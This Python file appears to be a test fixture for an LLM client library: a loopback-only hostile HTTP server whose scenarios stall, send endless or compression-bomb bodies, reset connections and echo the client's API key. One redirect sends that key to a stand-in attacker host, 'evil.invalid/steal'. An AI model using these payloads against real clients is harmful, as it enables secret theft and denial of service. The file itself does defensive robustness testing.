"""A raw-socket hostile HTTP server on loopback, for the adversarial suite.

One asyncio server on its own loop thread serves every scenario; the first path segment picks
the scenario (``http://127.0.0.1:PORT/<scenario>/v1`` is a base URL for the client). Each
connection reads one request (request line, headers, ``Content-Length`` body), records it, then
misbehaves as the scenario says. Everything is bounded: stalls end after :data:`HOLD` seconds,
endless bodies after :data:`HOLD` seconds or :data:`ENDLESS_CAP` bytes, and :meth:`close` cancels
whatever still runs.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import socket
import struct
import threading
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

from pixel_llm_otel._loop_thread import LoopThread

HOLD = 10.0  # seconds a stalling scenario holds its connection at most
ENDLESS_CAP = 256 * 1024 * 1024  # bytes an endless body sends at most
BOMB_SIZE = 16 * 1024 * 1024  # decompressed size of the compression bombs (4x the limit)
HUGE_SIZE = 64 * 1024 * 1024  # declared size of the huge plain body

COMPLETION = {
    "id": "chatcmpl-hostile",
    "object": "chat.completion",
    "created": 1,
    "model": "hostile-model",
    "choices": [
        {
            "index": 0,
            "message": {"role": "assistant", "content": "a caption"},
            "finish_reason": "stop",
        }
    ],
    "usage": {"prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5},
}


@dataclass
class Request:
    """One request as the server read it."""

    scenario: str
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


Handler = Callable[["Conn"], Awaitable[None]]


@dataclass
class Conn:
    """One connection, its request, and helpers to answer (or not)."""

    server: HostileServer
    request: Request
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def respond(
        self,
        status: str,
        body: bytes = b"",
        *,
        headers: dict[str, str] | None = None,
        content_type: str = "application/json",
    ) -> None:
        lines = [f"HTTP/1.1 {status}", f"Content-Type: {content_type}"]
        lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
        lines.append(f"Content-Length: {len(body)}")
        await self.send(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body)

    async def hold(self) -> None:
        """Keep the connection open, silent, until the client leaves or HOLD passes."""
        with contextlib.suppress(Exception):
            await asyncio.wait_for(self.reader.read(), HOLD)

    @property
    def auth(self) -> str:
        return self.request.headers.get("authorization", "")


@dataclass
class HostileServer:
    """The server; :meth:`start` / :meth:`close`, or use it as a context manager."""

    handlers: dict[str, Handler] = field(default_factory=dict)
    requests: list[Request] = field(default_factory=list)
    port: int = 0
    _thread: LoopThread = field(default_factory=lambda: LoopThread(name="hostile-server"))
    _server: asyncio.Server | None = None
    _conns: set[asyncio.Task[None]] = field(default_factory=set)
    _lock: threading.Lock = field(default_factory=threading.Lock)
    _events: dict[str, threading.Event] = field(default_factory=dict)
    _active: dict[str, int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.handlers = {**default_handlers(), **self.handlers}

    # --- lifecycle ----------------------------------------------------------------------
    def start(self) -> HostileServer:
        bomb("gzip"), bomb("deflate")  # built here, not on the serving loop (it would stall)
        self._server = self._thread.run(asyncio.start_server(self._serve, "127.0.0.1", 0))
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    def close(self) -> None:
        if self._server is not None:
            self._thread.run(self._aclose(), timeout=10)
            self._server = None
        self._thread.stop()

    async def _aclose(self) -> None:
        assert self._server is not None
        self._server.close()
        for task in list(self._conns):
            task.cancel()
        await asyncio.gather(*self._conns, return_exceptions=True)
        await self._server.wait_closed()

    def __enter__(self) -> HostileServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.close()

    # --- what tests read ----------------------------------------------------------------
    def url(self, scenario: str, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}/{scenario}/v1"

    def active(self, scenario: str) -> int:
        """Connections of ``scenario`` still being served (the client has not left)."""
        with self._lock:
            return self._active.get(scenario, 0)

    def seen(self, scenario: str) -> list[Request]:
        with self._lock:
            return [r for r in self.requests if r.scenario == scenario]

    def event(self, name: str) -> threading.Event:
        """A named event the handlers set (``<scenario>:request``, ``<scenario>:headers``)."""
        with self._lock:
            return self._events.setdefault(name, threading.Event())

    def signal(self, name: str) -> None:
        self.event(name).set()

    def add(self, name: str, handler: Handler) -> str:
        """Serve ``handler`` under scenario ``name``; returns its base URL."""
        self.handlers[name] = handler
        return self.url(name)

    def replying(self, name: str, status: str, body: bytes, **headers: str) -> str:
        """A scenario that answers every request with this status, body and headers."""

        async def handler(c: Conn) -> None:
            await c.respond(status, body, headers=headers)

        return self.add(name, handler)

    # --- serving ------------------------------------------------------------------------
    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._conns.add(task)
        scenario: str | None = None
        try:
            while True:
                request = await _read_request(reader)
                if request is None:
                    return
                with self._lock:
                    self.requests.append(request)
                    if scenario is None:
                        scenario = request.scenario
                        self._active[scenario] = self._active.get(scenario, 0) + 1
                self.signal(f"{request.scenario}:request")
                handler = self.handlers.get(request.scenario, _not_found)
                await handler(Conn(self, request, reader, writer))
                if writer.is_closing():
                    return
        except (ConnectionError, asyncio.IncompleteReadError, OSError):
            pass
        except asyncio.CancelledError:
            pass  # closing: the server's own callback must not see a cancelled task
        finally:
            self._conns.discard(task)
            if scenario is not None:
                with self._lock:
                    self._active[scenario] -= 1
            with contextlib.suppress(Exception):
                writer.close()


async def _read_request(reader: asyncio.StreamReader) -> Request | None:
    try:
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), HOLD)
    except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError):
        return None
    lines = head.decode("latin-1").split("\r\n")
    method, path, _ = lines[0].split(" ", 2)
    headers = {}
    for line in lines[1:]:
        if ":" in line:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
    length = int(headers.get("content-length", "0"))
    body = await reader.readexactly(length) if length else b""
    scenario = path.strip("/").split("/", 1)[0]
    return Request(scenario, method, path, headers, body)


# --- the scenarios ------------------------------------------------------------------------
def _json(value: object) -> bytes:
    return json.dumps(value).encode("utf-8")


async def _not_found(c: Conn) -> None:
    await c.respond("404 Not Found", _json({"error": {"message": "no such scenario"}}))


async def ok(c: Conn) -> None:
    await c.respond("200 OK", _json(COMPLETION))


_HEAD_200 = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"


async def stall_after_headers(c: Conn) -> None:
    await c.send(_HEAD_200 + b"Content-Length: 500\r\n\r\n")
    c.server.signal("stall-after-headers:headers")
    await c.hold()


async def silence(c: Conn) -> None:
    await c.hold()


async def trickle(c: Conn) -> None:
    """A chunked body that never ends: one byte every 50 ms (never idle long enough to time out)."""
    await c.send(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    await c.send(b"1\r\n[\r\n")
    loop = asyncio.get_running_loop()
    end = loop.time() + HOLD
    while loop.time() < end:
        await asyncio.sleep(0.05)
        await c.send(b"1\r\n \r\n")


async def huge(c: Conn) -> None:
    """Declares and (tries to) send 64 MiB of JSON-ish bytes."""
    await c.send(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        + f"Content-Length: {HUGE_SIZE}\r\n\r\n".encode()
    )
    chunk = b" " * 65536
    for _ in range(HUGE_SIZE // len(chunk)):
        await c.send(chunk)


async def huge_chunked(c: Conn) -> None:
    """A chunked body of 1 MiB chunks that goes on until the client leaves (or ENDLESS_CAP)."""
    await c.send(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b" " * (1024 * 1024)
    frame = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
    for _ in range(ENDLESS_CAP // len(chunk)):
        await c.send(frame)


_BOMBS: dict[str, bytes] = {}


def bomb(encoding: str) -> bytes:
    """BOMB_SIZE zeros, gzip- or deflate-compressed (about 16 KiB), built once."""
    if encoding not in _BOMBS:
        zeros = bytes(BOMB_SIZE)
        compress = gzip.compress if encoding == "gzip" else zlib.compress
        _BOMBS[encoding] = compress(zeros, 9)
    return _BOMBS[encoding]


def _bomb_handler(encoding: str) -> Handler:
    async def handler(c: Conn) -> None:
        await c.respond("200 OK", bomb(encoding), headers={"Content-Encoding": encoding})

    return handler


async def invalid_utf8(c: Conn) -> None:
    body = _json(COMPLETION).replace(b"a caption", b"a \xff\xfe caption")
    await c.respond("200 OK", body)


async def wrong_types(c: Conn) -> None:
    await c.respond("200 OK", _json({"choices": [{"message": {"content": 42}, "index": "0"}]}))


async def deep_json(c: Conn) -> None:
    await c.respond("200 OK", b"[" * 200_000 + b"]" * 200_000)


async def html(c: Conn) -> None:
    await c.respond(
        "200 OK", b"<html><body>Welcome to nginx!</body></html>", content_type="text/html"
    )


async def redirect_loop(c: Conn) -> None:
    await c.respond("302 Found", headers={"Location": c.request.path})


async def redirect_cross_host(c: Conn) -> None:
    target = f"http://localhost:{c.server.port}/elsewhere/v1/chat/completions"
    await c.respond("307 Temporary Redirect", headers={"Location": target})


async def reset_mid_body(c: Conn) -> None:
    await c.send(_HEAD_200 + b"Content-Length: 100\r\n\r\n")
    await c.send(b'{"choices": [')
    sock = c.writer.get_extra_info("socket")
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    c.writer.transport.abort()  # RST, not FIN


async def eof(c: Conn) -> None:
    c.writer.close()


async def not_http(c: Conn) -> None:
    await c.send(b"SSH-2.0-OpenSSH_9.6 hostile\r\n\r\n")
    await c.hold()


def _retry_after(value: str) -> Handler:
    async def handler(c: Conn) -> None:
        body = _json({"error": {"message": "slow down"}})
        await c.respond("429 Too Many Requests", body, headers={"Retry-After": value})

    return handler


async def echo_headers(c: Conn) -> None:
    """A gateway error that echoes the request's headers in its reason, body and headers."""
    echoed = "; ".join(f"{k}: {v}" for k, v in c.request.headers.items())
    key = c.auth.partition(" ")[2]
    body = _json({"error": {"message": f"upstream rejected {echoed}", "key": key, "raw": c.auth}})
    await c.respond(f"500 Upstream said {c.auth}", body, headers={"X-Echo": c.auth, "X-Key": key})


async def echo_plain(c: Conn) -> None:
    """A non-JSON error page quoting the key bare and in a URL's user info."""
    key = c.auth.partition(" ")[2]
    text = f"bad gateway; key={key} upstream=https://svc:{key}@upstream.local/v1 {c.auth}"
    await c.respond("502 Bad Gateway", text.encode(), content_type="text/plain")


async def echo_ok_body(c: Conn) -> None:
    """A 200 that is not JSON and quotes the key (a proxy's debug page)."""
    key = c.auth.partition(" ")[2]
    await c.respond("200 OK", f"<pre>token {key}</pre>".encode(), content_type="text/html")


async def echo_status_line(c: Conn) -> None:
    """A garbage status line that quotes the Authorization header (aiohttp's parser quotes it)."""
    await c.send(f"HTTP/1.1 4x2 {c.auth}\r\n\r\n".encode())
    await c.hold()


async def echo_redirect(c: Conn) -> None:
    key = c.auth.partition(" ")[2]
    location = f"http://user:{key}@evil.invalid/steal?k={key}"
    await c.respond("302 Found", headers={"Location": location})


async def echo_too_large(c: Conn) -> None:
    key = c.auth.partition(" ")[2].encode()
    await c.respond("200 OK", key * (6 * 1024 * 1024 // max(1, len(key))))


async def echo_ok_caption(c: Conn) -> None:
    """A well-formed completion whose caption quotes the key (a model told to repeat it)."""
    key = c.auth.partition(" ")[2]
    body = json.loads(_json(COMPLETION))
    body["choices"][0]["message"]["content"] = f"the key is {key}"
    await c.respond("200 OK", _json(body))


async def sse_endless(c: Conn) -> None:
    """An event stream of valid chunks, as fast as the client reads, never [DONE]."""
    await c.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n")
    event = b'data: {"choices": [{"index": 0, "delta": {"content": "word "}}]}\n\n'
    for _ in range(ENDLESS_CAP // len(event)):
        await c.send(event * 64)


def default_handlers() -> dict[str, Handler]:
    return {
        "ok": ok,
        "stall-after-headers": stall_after_headers,
        "silence": silence,
        "trickle": trickle,
        "huge": huge,
        "huge-chunked": huge_chunked,
        "gzip-bomb": _bomb_handler("gzip"),
        "deflate-bomb": _bomb_handler("deflate"),
        "invalid-utf8": invalid_utf8,
        "wrong-types": wrong_types,
        "deep-json": deep_json,
        "html": html,
        "redirect-loop": redirect_loop,
        "redirect-cross-host": redirect_cross_host,
        "reset-mid-body": reset_mid_body,
        "eof": eof,
        "not-http": not_http,
        "retry-after-absurd": _retry_after("999999999"),
        "retry-after-garbage": _retry_after("soon, maybe"),
        "retry-after-negative": _retry_after("-5"),
        "retry-after-far-future": _retry_after("Fri, 31 Dec 9999 23:59:59 GMT"),
        "echo-headers": echo_headers,
        "echo-plain": echo_plain,
        "echo-ok-body": echo_ok_body,
        "echo-status-line": echo_status_line,
        "echo-redirect": echo_redirect,
        "echo-too-large": echo_too_large,
        "echo-ok-caption": echo_ok_caption,
        "sse-endless": sse_endless,
    }
